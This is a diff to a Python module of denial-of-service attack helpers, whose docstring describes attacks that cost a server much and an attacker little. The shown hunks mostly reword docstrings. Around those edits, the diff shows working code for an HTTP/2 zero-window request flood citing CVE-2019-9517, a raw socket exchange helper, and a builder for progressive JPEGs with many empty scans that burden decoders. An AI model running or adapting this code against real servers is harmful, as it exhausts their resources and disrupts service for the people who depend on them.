@@ -1,10 +1,10 @@
-"""What costs a server much and an attacker little: pictures of many scans, answers that nobody reads."""
+"""Attacks that cost a server much and an attacker little: pictures with many scans, responses that nobody reads."""
 
 import struct
 
 
 def unread(portal, path: str, cookies: dict, requests: int):
-    """An HTTP/2 connection with so many requests for a page, and no window for any answer (CVE-2019-9517)."""
+    """An HTTP/2 connection with so many requests for a page, and no window for any response (CVE-2019-9517)."""
     stream = portal.socket(protocol="h2")
     settings = struct.pack(">HI", 4, 0)
     stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
@@ -39,7 +39,7 @@ def text(value: str) -> bytes:
 
 
 def exchange(portal, request: bytes) -> bytes:
-    """Everything that comes to these bytes until the connection ends."""
+    """The whole response to these bytes until the connection ends."""
     with portal.socket() as stream:
         heard = b""
         try:
@@ -55,8 +55,8 @@ def exchange(portal, request: bytes) -> bytes:
 
 
 def jpeg(width: int, height: int, scans: int) -> bytes:
-    """A grey picture in up to 64 scans: one of the first coefficient, one for each of the others. A scan of nothing but
-    ends of blocks is some bytes long, and a decoder walks over every block for it."""
+    """A grey picture in up to 64 scans: one for the first coefficient, one for each of the others. A scan that has only
+    ends of blocks is some bytes long, and a decoder visits every block for it."""
     blocks = ((width + 7) // 8) * ((height + 7) // 8)
     out = b"\xff\xd8" + segment(0xDB, b"\0" + b"\1" * 64)
     out += segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0")
